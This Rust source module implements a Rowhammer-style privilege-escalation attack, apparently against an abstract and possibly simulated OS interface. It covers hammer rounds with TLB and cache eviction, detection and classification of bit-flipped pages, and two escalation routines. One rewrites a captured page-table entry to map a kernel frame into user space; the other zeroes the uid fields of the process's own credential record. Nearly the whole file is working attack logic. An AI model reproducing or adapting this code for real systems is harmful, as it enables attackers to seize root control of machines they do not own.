//! Hammer rounds, flip detection and the two escalation paths.

use rand::seq::SliceRandom;
use serde::{Deserialize, Serialize};

use super::pairs::{Candidate, Spray};
use super::{AttackReport, Attacker, Escalation};
use crate::config::{ScanScope, HUGE_PAGE_SIZE, PAGE_SIZE};
use crate::error::{AttackError, OsError};
use crate::mmu::{make_pte, PTE_USER};
use crate::os::cred::{ID_FIELDS_BYTES, UID_OFFSET};
use crate::os::{Syscalls, CRED_BYTES, CRED_MAGIC, SENTINEL_MAGIC};
use crate::util::median;

/// Entry rewritten in a captured table.
pub const REWRITE_SLOT: u64 = 7;

#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum FlipKind {
    L1pt,
    Cred,
    Other,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct FlipDescriptor {
    pub va: u64,
    pub window: u64,
    pub page: u64,
    pub kind: FlipKind,
}

impl<S: Syscalls> Attacker<'_, S> {
    /// Evicts both targets' translations and leaf entries, then walks both.
    pub fn hammer_round(&mut self, evictors: &[u64], c: &Candidate) -> Result<u64, AttackError> {
        let t0 = self.sys.now();
        self.sys.touch_batch(evictors)?;
        self.sys.touch_batch(&[c.pair.a, c.pair.b])?;
        if self.cfg.padding_cycles > 0 {
            self.sys.spin(self.cfg.padding_cycles);
        }
        Ok(self.sys.now() - t0)
    }

    pub fn evictors(c: &Candidate) -> Vec<u64> {
        [&c.tlb_a, &c.llc_a, &c.tlb_b, &c.llc_b].iter().flat_map(|s| s.members.iter().copied()).collect()
    }

    /// Sweeps enough distinct pages to displace every cached translation.
    pub fn flush_tlb(&mut self) -> Result<(), AttackError> {
        let n = (2 * self.hw.tlb_entries()).min(self.buf.tlb_pages);
        let pages: Vec<u64> = (0..n).map(|i| self.buf.tlb_base + i * PAGE_SIZE).collect();
        for chunk in pages.chunks(64) {
            self.sys.touch_batch(chunk)?;
        }
        Ok(())
    }

    pub fn scan_windows(&self, c: &Candidate) -> std::ops::Range<u64> {
        let stride = self.pair_stride_windows();
        let w = c.window_a;
        let r = match self.cfg.scan_scope {
            ScanScope::VictimBand => {
                let q = (stride / 8).max(1);
                let mid = w + stride / 2;
                mid.saturating_sub(q)..mid + q + 1
            }
            ScanScope::PairSpan => w..w + stride + 1,
            ScanScope::FullSpray => 0..self.spray.windows,
        };
        r.start..r.end.min(self.spray.windows)
    }

    /// Pages in `windows` whose content no longer matches their batch
    /// marker, classified by what they now map.
    pub fn detect_flips(&mut self, windows: std::ops::Range<u64>) -> Result<Vec<FlipDescriptor>, AttackError> {
        self.flush_tlb()?;
        let mut out = Vec::new();
        for w in windows {
            let mark = Spray::marker(self.spray.batch_of(w));
            let base = self.spray.window_va(w);
            for p in 0..512 {
                let va = base + p * PAGE_SIZE;
                if self.seen_flips.contains(&va) {
                    continue;
                }
                let kind = match self.sys.read_u64(va) {
                    Ok(v) if v == mark => continue,
                    Ok(_) => self.classify_page(va)?,
                    Err(OsError::Fault(_)) => FlipKind::Other,
                    Err(e) => return Err(e.into()),
                };
                self.seen_flips.push(va);
                out.push(FlipDescriptor { va, window: w, page: p, kind });
            }
        }
        Ok(out)
    }

    pub fn classify_page(&mut self, va: u64) -> Result<FlipKind, AttackError> {
        let mut buf = vec![0u8; PAGE_SIZE as usize];
        if let Err(e) = self.sys.read_page(va, &mut buf) {
            return match e {
                OsError::Fault(_) => Ok(FlipKind::Other),
                e => Err(e.into()),
            };
        }
        let word = |i: usize| u64::from_le_bytes(buf[i..i + 8].try_into().expect("8 bytes"));
        // a leaf table: nonzero words all look like user entries for frames
        // that exist
        let frames = self.hw.dram_bytes / PAGE_SIZE;
        let pte_like = |w: u64| w & 0xfff == PTE_USER && (w >> 12) < frames;
        let nonzero: Vec<u64> = (0..512).map(|i| word(i * 8)).filter(|&w| w != 0).collect();
        if !nonzero.is_empty() && nonzero.iter().all(|&w| pte_like(w)) {
            return Ok(FlipKind::L1pt);
        }
        let uid = self.sys.getuid();
        let (cb, uo) = (CRED_BYTES as usize, UID_OFFSET as usize);
        let own = (0..PAGE_SIZE as usize / cb).any(|s| {
            let o = s * cb;
            word(o) == CRED_MAGIC && word(o + cb - 8) == CRED_MAGIC && word(o + uo) as u32 == uid
        });
        Ok(if own { FlipKind::Cred } else { FlipKind::Other })
    }

    /// Points one entry of the captured table at the sentinel frame and
    /// looks for it through the sprayed windows. Returns the address that
    /// now maps the sentinel.
    pub fn escalate_via_l1pt(&mut self, d: &FlipDescriptor) -> Result<u64, AttackError> {
        let pte = make_pte(self.hw.kernel_sentinel_pfn, PTE_USER);
        self.sys.write_u64(d.va + 8 * REWRITE_SLOT, pte)?;
        self.flush_tlb()?;
        // slot 7 of the leaf table behind every own 2 MiB chunk
        let mut bases: Vec<u64> = Vec::new();
        for &(start, len) in &self.maps {
            let mut base = start & !(HUGE_PAGE_SIZE - 1);
            while base < start + len {
                bases.push(base);
                base += HUGE_PAGE_SIZE;
            }
        }
        bases.sort_unstable();
        bases.dedup();
        for base in bases {
            let va = base + REWRITE_SLOT * PAGE_SIZE;
            if va == d.va {
                continue;
            }
            match self.sys.read_u64(va) {
                Ok(SENTINEL_MAGIC) => return Ok(va),
                Ok(_) | Err(OsError::Fault(_)) => {}
                Err(e) => return Err(e.into()),
            }
        }
        Err(AttackError::Verification("rewritten entry not visible through any own mapping"))
    }

    /// Zeroes the ids of the first own credential record on the page and
    /// returns the pid it belongs to.
    pub fn escalate_via_cred(&mut self, d: &FlipDescriptor) -> Result<u32, AttackError> {
        let uid = self.sys.getuid() as u64;
        let page = d.va & !(PAGE_SIZE - 1);
        for s in 0..PAGE_SIZE / CRED_BYTES {
            let o = page + s * CRED_BYTES;
            if self.sys.read_u64(o)? != CRED_MAGIC || self.sys.read_u64(o + UID_OFFSET)? & 0xffff_ffff != uid {
                continue;
            }
            let pid = (self.sys.read_u64(o + UID_OFFSET + ID_FIELDS_BYTES)? & 0xffff_ffff) as u32;
            for k in (0..ID_FIELDS_BYTES).step_by(8) {
                self.sys.write_u64(o + UID_OFFSET + k, 0)?;
            }
            return Ok(pid);
        }
        Err(AttackError::CredMismatch)
    }

    /// Scans and handles new flips. Returns true once escalated.
    fn check(&mut self, c: &Candidate, report: &mut AttackReport, hammer_t0: u64) -> Result<bool, AttackError> {
        let t0 = self.sys.now();
        let ws = self.scan_windows(c);
        let flips = self.detect_flips(ws)?;
        report.check_cycles += self.sys.now() - t0;
        for d in flips {
            report.flips_detected += 1;
            report.first_flip_cycle.get_or_insert(t0 - hammer_t0);
            self.log("flip", format!("va={:#x} window={} page={} kind={:?}", d.va, d.window, d.page, d.kind));
            match d.kind {
                FlipKind::L1pt => {
                    report.l1pt_flips += 1;
                    match self.escalate_via_l1pt(&d) {
                        Ok(va) => {
                            report.escalation = Escalation::L1pt;
                            report.sentinel_va = Some(va);
                            self.log("escalate", format!("l1pt sentinel_va={va:#x}"));
                            return Ok(true);
                        }
                        Err(AttackError::Verification(m)) => self.log("escalate_failed", m.into()),
                        Err(e) => return Err(e),
                    }
                }
                FlipKind::Cred => {
                    report.cred_flips += 1;
                    match self.escalate_via_cred(&d) {
                        Ok(pid) => {
                            report.escalation = Escalation::Cred;
                            report.escalated_pid = Some(pid);
                            self.log("escalate", format!("cred pid={pid}"));
                            return Ok(true);
                        }
                        Err(AttackError::CredMismatch) => self.log("escalate_failed", "cred".into()),
                        Err(e) => return Err(e),
                    }
                }
                FlipKind::Other => report.other_flips += 1,
            }
        }
        Ok(false)
    }

    /// Hammers one pair for the configured number of refresh epochs,
    /// checking for flips along the way.
    pub fn hammer_pair(&mut self, c: &Candidate, report: &mut AttackReport, hammer_t0: u64) -> Result<bool, AttackError> {
        let epoch = self.hw.refresh_cycles.max(1);
        let ev = Self::evictors(c);
        let start = self.sys.now();
        let end = start + epoch * self.cfg.epochs_per_pair.max(1) as u64;
        let mut seg = start;
        let mut next = start + epoch;
        let mut since = 0u32;
        loop {
            let cost = self.hammer_round(&ev, c)?;
            self.round_costs.push(cost);
            report.rounds += 1;
            since += 1;
            let t = self.sys.now();
            let due = if self.cfg.check_every_rounds > 0 { since >= self.cfg.check_every_rounds } else { t >= next };
            if due || t >= end {
                report.hammer_cycles += t - seg;
                if self.check(c, report, hammer_t0)? {
                    return Ok(true);
                }
                if report.flips_detected >= self.cfg.max_flips || t >= end {
                    return Ok(false);
                }
                since = 0;
                seg = self.sys.now();
                next = seg + epoch;
            }
        }
    }

    /// First windows of candidate pairs, in probing order.
    pub fn candidate_windows(&mut self) -> Vec<u64> {
        let stride = self.pair_stride_windows();
        // true cells only lower a PFN: draw pairs where the frames just
        // below each shared frame are earlier batches' tables
        let starts = &self.spray.batch_start;
        let lo = starts.get(starts.len() / 2).copied().unwrap_or(0);
        let mut order: Vec<u64> = (lo..self.spray.windows.saturating_sub(stride)).collect();
        order.shuffle(&mut self.rng);
        order
    }

    /// Pair discovery and hammering until escalation or budget exhaustion.
    pub fn hammer_loop(&mut self, report: &mut AttackReport) -> Result<(), AttackError> {
        let hammer_t0 = self.sys.now();
        let mut pending: Vec<Candidate> = Vec::new();
        let mut order = self.candidate_windows().into_iter();
        let batch = self.cfg.pair_batch.max(1) as usize;
        let result = loop {
            if report.pairs_hammered >= self.cfg.max_pairs || report.flips_detected >= self.cfg.max_flips {
                break Ok(());
            }
            let next: Vec<u64> = order.by_ref().take(batch).collect();
            if next.is_empty() {
                break Ok(());
            }
            let t0 = self.sys.now();
            let found = match self.find_hammer_pairs(next) {
                Ok(f) => f,
                Err(e) => break Err(e),
            };
            report.candidates_probed += found.len() as u32;
            pending.extend(found);
            let th = self.conflict_threshold();
            report.pair_cycles += self.sys.now() - t0;
            let Some(th) = th else { continue };
            let same: Vec<Candidate> = pending.drain(..).filter(|c| c.pair.evidence > th).collect();
            report.same_bank_pairs += same.len() as u32;
            let mut done = false;
            for c in same {
                if report.pairs_hammered >= self.cfg.max_pairs || report.flips_detected >= self.cfg.max_flips {
                    break;
                }
                report.pairs_hammered += 1;
                self.log("hammer", format!("a={:#x} b={:#x} evidence={}", c.pair.a, c.pair.b, c.pair.evidence));
                match self.hammer_pair(&c, report, hammer_t0) {
                    Ok(true) => {
                        done = true;
                        break;
                    }
                    Ok(false) => {}
                    Err(e) => return Err(e),
                }
            }
            if done {
                break Ok(());
            }
        };
        if !self.round_costs.is_empty() {
            report.median_round_cycles = median(&mut self.round_costs.clone());
        }
        result
    }
}
